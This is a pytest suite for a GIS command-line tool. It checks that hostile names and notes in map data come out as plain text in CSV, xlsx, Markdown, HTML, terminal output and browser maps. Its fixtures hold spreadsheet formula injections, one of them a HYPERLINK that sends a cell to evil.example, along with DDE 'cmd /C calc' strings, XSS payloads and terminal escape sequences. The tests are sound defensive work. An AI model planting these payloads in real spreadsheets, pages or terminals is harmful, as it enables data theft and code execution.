"""Nothing injected: names and notes from the data are shown as text in every output.

Spreadsheets (CSV meant for them, the .xlsx report) never run a cell as a formula, report.md
and report.html show HTML and Markdown as text, the web maps too, and the terminal prints
control characters as visible escapes.
"""

from __future__ import annotations

import csv
import html.parser
import json
import os
import pty
import re
import select
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from click.testing import CliRunner

from gis.cli import cli

DATA = Path(__file__).parent / "data" / "layers"

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"点击 click")'
PLUS = "+1+cmd|' /C calc'!A0"
MINUS = "-2+3"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
HTML_NAME = "<img src=x onerror=alert(1)><script>alert(2)</script>"
FID = "@PK<img src=x onerror=alert(3)>"
# C0 control characters (ESC, BEL ...) are read as spaces by the reader (tests/test_crashes.py), so
# the escape sequences that reach an output are their C1 forms: CSI \x9b, OSC \x9d, ST \x9c.
ATTR_NAME = '"><svg onload=alert(4)>公园\x9d0;t\x9c | [link](http://evil.example) *b* `c`'
ESC = "\x9b31m红\x9d0;title\x9c工业\x9b2J用地\rX"
NOTE = "=1+2 | <script>alert(5)</script> [link](http://evil.example)\nsecond line"
AGG_NOTE = "<img src=x onerror=alert(6)> & done"
REF = "-row 12"

#: Characters a terminal acts on (C0 controls but the newline, DEL, C1 controls).
TERMINAL_CONTROLS = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f]")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
GIS = [sys.executable, "-c", "from gis.cli import main; main()"]


def _set(layer_dir: Path, name: str, which: str, **props: object) -> None:
    path = layer_dir / f"{name}.geojson"
    doc = json.loads(path.read_text(encoding="utf-8"))
    (feature,) = [f for f in doc["features"] if f["properties"]["fid"] == which]
    for key, value in props.items():
        if key == "geometry_of":
            (other,) = [f for f in doc["features"] if f["properties"]["fid"] == value]
            feature["geometry"] = other["geometry"]
        else:
            feature["properties"][key] = value
    path.write_text(json.dumps(doc, ensure_ascii=False), encoding="utf-8")


def _set_target(layer_dir: Path, target_id: str, **fields: str) -> None:
    path = layer_dir / "targets.csv"
    table = pd.read_csv(path, dtype=str, keep_default_na=False)
    for key, value in fields.items():
        table.loc[table["target_id"] == target_id, key] = value
    table.to_csv(path, index=False)


def hostile(dest: Path) -> Path:
    """A copy of the test layers whose names, notes and a fid are formulas, HTML and escape sequences."""
    shutil.copytree(DATA, dest)
    _set(dest, "parks", "TT-PK-01", name_zh=FORMULA, name_en=HTML_NAME, street=PLUS)
    # a second park on the first (an overlap: a QA finding naming both fids)
    _set(dest, "parks", "TT-PK-02", geometry_of="TT-PK-01", name_zh=ATTR_NAME, name_en=AT, street=MINUS, fid=FID)
    _set(dest, "industrial_land", "TT-IL-02", name_zh=ESC)
    _set_target(dest, "TT-12", note=NOTE, source_ref=REF)
    _set_target(dest, "TT-09", note=AGG_NOTE)
    return dest


@pytest.fixture
def hostile_layers(tmp_path: Path) -> Path:
    return hostile(tmp_path / "layers")


def invoke(*args: object, color: bool = True):
    """Run the CLI as on a terminal (color=True: click strips nothing from what is printed)."""
    return CliRunner().invoke(cli, [str(a) for a in args], catch_exceptions=False, color=color)


# --- spreadsheets: CSV files ------------------------------------------------------------------


def read_cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as f:
        return list(csv.reader(f))


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def assert_neutralised(path: Path, texts: list[str]) -> list[list[str]]:
    """Every row whole; no cell starts like a formula unless it is a number; each of ``texts`` is there, with a '."""
    rows = read_cells(path)
    assert {len(row) for row in rows} == {len(rows[0])}, f"{path.name}: a text cell broke its row"
    cells = [cell for row in rows for cell in row]
    formulas = [c for c in cells if c.startswith(FORMULA_START) and not _is_number(c)]
    assert formulas == [], f"{path.name}: cells a spreadsheet would run as formulas: {formulas}"
    for text in texts:
        assert "'" + text in cells, f"{path.name}: {text!r} is not there as the text '{text}"
    return rows


def test_build_csv_outputs_neutralise_formulas_and_keep_numbers(hostile_layers, tmp_path):
    out = tmp_path / "out"
    result = invoke("build", "--layers", hostile_layers, "--out-dir", out, "--maps-dir", tmp_path / "maps")
    assert result.exit_code == 0, result.output
    rows = assert_neutralised(out / "check.csv", [FORMULA, NOTE, REF])
    header = rows[0]
    deltas = [row[header.index("delta")] for row in rows[1:]]
    assert "-1.000000" in deltas  # TT-03: 4 ha against 5 ha, a negative number left a number
    assert_neutralised(out / "features.csv", [FORMULA, PLUS, MINUS, AT, FID])
    qa = assert_neutralised(out / "qa.csv", [FID])
    assert any(row[qa[0].index("check")] == "overlap" for row in qa[1:])
    # the GeoPackage keeps the text exactly
    import pyogrio

    parks = pyogrio.read_dataframe(out / "planning.gpkg", layer="parks")
    assert set(parks["name_zh"]) == {FORMULA, ATTR_NAME} and FID in set(parks["feature_id"])
    doc = json.loads((out / "check.json").read_text(encoding="utf-8"))
    assert {t["note"] for t in doc["targets"] if t["target_id"] == "TT-12"} == {NOTE}


def test_check_diff_and_zonal_csv_neutralise_formulas(hostile_layers, tmp_path):
    check_csv = tmp_path / "check.csv"
    result = invoke("check", "--layers", hostile_layers, "-f", "csv", "-o", check_csv)
    assert result.exit_code == 1, result.output
    assert_neutralised(check_csv, [FORMULA, NOTE, REF])

    diff_csv = tmp_path / "diff.csv"
    result = invoke("diff", DATA, hostile_layers, "-f", "csv", "-o", diff_csv)
    assert result.exit_code == 0, result.output
    assert_neutralised(diff_csv, [FORMULA, FID])

    tif = tmp_path / "landuse.tif"
    assert invoke("rasterize", "--layers", hostile_layers, "-o", tif).exit_code == 0
    zonal_csv = tmp_path / "zonal.csv"
    result = invoke("zonal", tif, "--layers", hostile_layers, "--layer", "parks", "-f", "csv", "-o", zonal_csv)
    assert result.exit_code == 0, result.output
    assert_neutralised(zonal_csv, [FORMULA, FID])


# --- spreadsheets: the .xlsx report -----------------------------------------------------------


def test_xlsx_report_writes_text_cells_as_text(hostile_layers, tmp_path):
    from openpyxl import load_workbook

    path = tmp_path / "report.xlsx"
    result = invoke("report", "--layers", hostile_layers, "-o", path)
    assert result.exit_code == 0, result.output  # a name with an escape sequence does not stop it
    wb = load_workbook(path)
    values: dict[str, str] = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    assert cell.data_type == "s"
                    values[cell.value] = cell.data_type
    assert FORMULA in values and NOTE in values  # exactly the text, no ' needed in a text cell
    assert any(v.startswith("\\x9b31m红\\x9d0;title\\x9c工业\\x9b2J用地") for v in values)  # ESC made visible
    with zipfile.ZipFile(path) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not [n for n in sheets if re.search(rb"<f[ >]", z.read(n))]
    # numbers stay numbers
    ws = wb["龙岗区 Longgang"]
    header = [c.value for c in ws[1]]
    deltas = [row[header.index("差值 Delta")] for row in ws.iter_rows(min_row=2)]
    assert any(c.data_type == "n" and c.value == pytest.approx(-1.0, abs=1e-3) for c in deltas)  # TT-03


# --- report.md and report.html ----------------------------------------------------------------


class _Tree(html.parser.HTMLParser):
    """Tags, attributes and the text of each table row of an HTML document."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attrs: list[str] = []
        self.rows: list[list[str]] = []
        self.tables: list[list[list[str]]] = []
        self._cell: list[str] | None = None

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attrs += [name for name, _ in attrs]
        if tag == "table":
            self.tables.append([])
        elif tag == "tr":
            self.rows.append([])
            self.tables[-1].append(self.rows[-1])
        elif tag in ("td", "th"):
            self._cell = []
        elif tag == "br" and self._cell is not None:
            self._cell.append("\n")

    def handle_endtag(self, tag):
        if tag in ("td", "th") and self._cell is not None:
            self.rows[-1].append("".join(self._cell))
            self._cell = None

    def handle_data(self, data):
        if self._cell is not None:
            self._cell.append(data)


def _parse(text: str) -> _Tree:
    tree = _Tree()
    tree.feed(text)
    return tree


def test_markdown_report_shows_html_and_markdown_as_text(hostile_layers, tmp_path):
    from markdown_it import MarkdownIt

    path = tmp_path / "report.md"
    result = invoke("report", "--layers", hostile_layers, "-o", path)
    assert result.exit_code == 0, result.output
    text = path.read_text(encoding="utf-8")
    assert not TERMINAL_CONTROLS.search(text)  # cat report.md cannot drive the terminal
    # rendered as GitHub does (tables, raw HTML allowed): the data adds no tag, link or cell
    rendered = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).render(text)
    tree = _parse(rendered)
    assert not {"img", "script", "svg", "a", "em", "strong", "code", "s"} & set(tree.tags)
    assert not [a for a in tree.attrs if a.startswith("on")]
    for rows in tree.tables:
        assert len({len(row) for row in rows}) == 1, "a row with more or fewer cells than its header"
    cells = {cell for row in tree.rows for cell in row}
    assert FORMULA in cells and NOTE in cells and AGG_NOTE in cells
    assert "\\x9b31m红\\x9d0;title\\x9c工业\\x9b2J用地\nX" in cells


def test_html_report_shows_names_as_text(hostile_layers, tmp_path):
    path = tmp_path / "report.html"
    result = invoke("report", "--layers", hostile_layers, "-o", path)
    assert result.exit_code == 0, result.output
    tree = _parse(path.read_text(encoding="utf-8"))
    assert "img" not in tree.tags and "script" not in tree.tags and "svg" in tree.tags  # the charts' own svg
    assert not [a for a in tree.attrs if a.startswith("on")]
    cells = {cell for row in tree.rows for cell in row}
    assert FORMULA in cells and NOTE in cells and AGG_NOTE in cells
    assert any("onerror=alert(6)" in c for c in cells)


# --- terminal ---------------------------------------------------------------------------------


def assert_terminal_safe(output: str, *shown: str) -> None:
    bad = sorted({f"{ord(c):#04x}" for c in TERMINAL_CONTROLS.findall(output)})
    assert not bad, f"control characters printed raw: {bad}\n{output!r}"
    for text in shown:
        assert text in output, f"{text!r} not shown in\n{output}"


ESC_SHOWN = "\\x9b31m红\\x9d0;title\\x9c工业\\x9b2J用地\\rX"


def test_import_lists_names_with_escapes_visible(hostile_layers, tmp_path):
    layers = tmp_path / "clean"
    shutil.copytree(DATA, layers)
    doc = json.loads((hostile_layers / "parks.geojson").read_text(encoding="utf-8"))
    doc["features"][1]["properties"].update(fid="TT-PK-03", name_zh=ESC)
    new = tmp_path / "new.geojson"
    new.write_text(json.dumps(doc, ensure_ascii=False), encoding="utf-8")
    result = invoke("import", new, "--layer", "parks", "--layers", layers, "--dry-run")
    assert result.exit_code == 0, result.output
    assert_terminal_safe(result.output, f"added    TT-PK-03  {ESC_SHOWN}")


def test_check_diff_zonal_tables_and_log_lines_print_escapes_visible(hostile_layers, tmp_path):
    result = invoke("check", "--layers", hostile_layers)
    assert result.exit_code == 1
    assert_terminal_safe(result.output, "\\x9b31m红")  # the name column is clipped
    logged = subprocess.run([*GIS, "-v", "check", "--layers", hostile_layers, "-f", "json"], capture_output=True)
    assert logged.returncode == 1  # -v logs the features no target refers to, with their names
    assert_terminal_safe(logged.stderr.decode("utf-8"), "no target refers to it", "公园\\x9d0;t\\x9c |")
    result = invoke("diff", DATA, hostile_layers)
    assert result.exit_code == 0, result.output
    assert_terminal_safe(result.output, f"changed  TT-IL-02  {ESC_SHOWN}")
    result = invoke("zonal", _tif(hostile_layers, tmp_path), "--layers", hostile_layers, "--layer", "industrial_land")
    assert result.exit_code == 0, result.output
    assert_terminal_safe(result.output, "\\x9b31m红")


def _tif(layers: Path, tmp_path: Path) -> Path:
    tif = tmp_path / "landuse.tif"
    assert invoke("rasterize", "--layers", layers, "-o", tif).exit_code == 0
    return tif


def test_errors_and_qa_quote_values_with_escapes_visible(tmp_path):
    layers = tmp_path / "layers"
    shutil.copytree(DATA, layers)
    fid = "\x9d0;pwned\x9cPK\r"
    _set(layers, "parks", "TT-PK-02", fid=fid + "2", name_zh="")  # an error naming the feature
    shown = "\\x9d0;pwned\\x9cPK\\r2"
    for args in (("check",), ("build", "--out-dir", tmp_path / "out", "--maps-dir", tmp_path / "maps")):
        result = invoke(*args, "--layers", layers)
        assert result.exit_code == 2
        assert_terminal_safe(result.output, f"feature {shown}: field name_zh is empty")
    result = invoke("qa", "--layers", layers)
    assert result.exit_code == 1
    assert_terminal_safe(result.output, "\\x9d0;pwned")  # the fid column is clipped
    assert not (tmp_path / "out").exists()


def test_csv_printed_on_a_terminal_shows_escapes(hostile_layers):
    """On a real terminal (a pty) even CSV and JSON print control characters as escapes."""
    for fmt in ("csv", "json"):
        main, child = pty.openpty()
        proc = subprocess.Popen(
            [*GIS, "check", "--layers", str(hostile_layers), "-f", fmt],
            stdin=subprocess.DEVNULL,
            stdout=child,
            stderr=child,
            env={**os.environ, "TERM": "xterm"},
        )
        os.close(child)
        chunks = []
        while True:
            ready, _, _ = select.select([main], [], [], 60)
            if not ready:
                proc.kill()
                pytest.fail("gis check printed nothing for 60 s")
            try:
                chunk = os.read(main, 65536)
            except OSError:  # the child closed the terminal
                break
            if not chunk:
                break
            chunks.append(chunk)
        os.close(main)
        assert proc.wait(timeout=60) == 1
        output = b"".join(chunks).decode("utf-8").replace("\r\n", "\n")  # the pty turns \n into \r\n
        assert_terminal_safe(output, *(["\\x9b31m红"] if fmt == "csv" else []))
        assert "\\r\n" not in output  # the CSV's CRLF line ends (a CR in a name) are line ends, not shown


# --- web maps (a real headless Chromium) ------------------------------------------------------


def test_web_map_browser_shows_hostile_text_as_text(hostile_layers, tmp_path):
    """Popup, "also here" list, tooltip, search list, district panel and QA popup show the data as text."""
    sync_api = pytest.importorskip("playwright.sync_api")
    from gis.pipeline import run_check, run_qa
    from gis.render.webmap import write_maps
    from tests.test_browser import Page, chromium_path

    run = run_check(layers_dir=hostile_layers)
    run.qa = run_qa(hostile_layers)
    write_maps(run, tmp_path)
    with sync_api.sync_playwright() as p:
        browser = p.chromium.launch(executable_path=chromium_path(), args=["--no-sandbox", "--disable-gpu"])
        page = Page(browser, tmp_path / "index.html")
        try:
            qa_layer = page.page.locator(".leaflet-control-layers-overlays label", has_text="QA findings")
            qa_layer.locator("input").click()  # hidden: the overlap finding lies on top of the parks
            park = run.features.set_index("fid").loc["TT-PK-01"]
            text = page.click_feature(park.geometry)  # one of the two parks, the other listed below it
            assert FORMULA in text and FID in text and "Also here" in text
            page.page.click(".leaflet-popup-close-button")
            # the tooltip under the pointer (the view set again: the popup may have panned the map)
            pt = park.geometry.point_on_surface()
            xy = page.js(
                "([lat, lng]) => { const m = window.gis.map; m.setView([lat, lng], 16, {animate: false});"
                " const p = m.latLngToContainerPoint([lat, lng]); const r = m.getContainer().getBoundingClientRect();"
                " return [p.x + r.left, p.y + r.top]; }",
                [pt.y, pt.x],
            )
            page.page.mouse.move(xy[0] - 30, xy[1] - 30)
            page.page.mouse.move(*xy, steps=5)
            page.page.wait_for_selector(".leaflet-tooltip:not(.gis-district-label)")
            tooltips = page.page.locator(".leaflet-tooltip:not(.gis-district-label)").all_inner_texts()
            assert any(FORMULA in t or "<svg onload" in t for t in tooltips)
            # the search list, and the popups it opens
            search = ".leaflet-control-search input.search-input"
            page.page.fill(search, "公园")
            page.page.wait_for_selector(".search-tip")
            tips = page.page.locator(".search-tip").all_inner_texts()
            assert any(t.startswith('"><svg onload=alert(4)>公园') and FID in t for t in tips)
            page.page.locator(".search-tip", has_text="svg onload").click()
            page.page.wait_for_selector(".leaflet-popup-content")
            assert '"><svg onload=alert(4)>公园' in page.page.inner_text(".leaflet-popup-content")
            page.page.fill(search, "HYPERLINK")
            page.page.locator(".search-tip", has_text="HYPERLINK").click()
            page.page.wait_for_function("document.querySelector('.leaflet-popup-content').innerText.includes('TT-12')")
            text = page.page.inner_text(".leaflet-popup-content")
            assert FORMULA in text and HTML_NAME in text and PLUS in text and REF in text  # name, street, citation
            # the district targets panel: a target's note
            assert AGG_NOTE in page.page.inner_text(".gis-panel")
            # the QA finding of the two parks' overlap
            qa_layer.locator("input").click()
            assert page.page.locator("path.gis-qa").count() >= 1
            page.page.locator("path.gis-qa").first.click(force=True)
            page.page.wait_for_function(
                "document.querySelector('.leaflet-popup-content').innerText.includes('overlap')"
            )
            assert FID in page.page.inner_text(".leaflet-popup-content")
            # nothing of the data became markup: no handler attribute, no <img src=x>, no dialog opened
            injected = page.js(
                "[...document.querySelectorAll('*')].filter(e => e.tagName === 'IMG' && e.getAttribute('src') === 'x'"
                " || [...e.attributes].some(a => a.name.startsWith('on'))).map(e => e.outerHTML.slice(0, 120))"
            )
            assert injected == []
            assert page.errors == [] and page.blocked == []
        finally:
            page.close()
            browser.close()
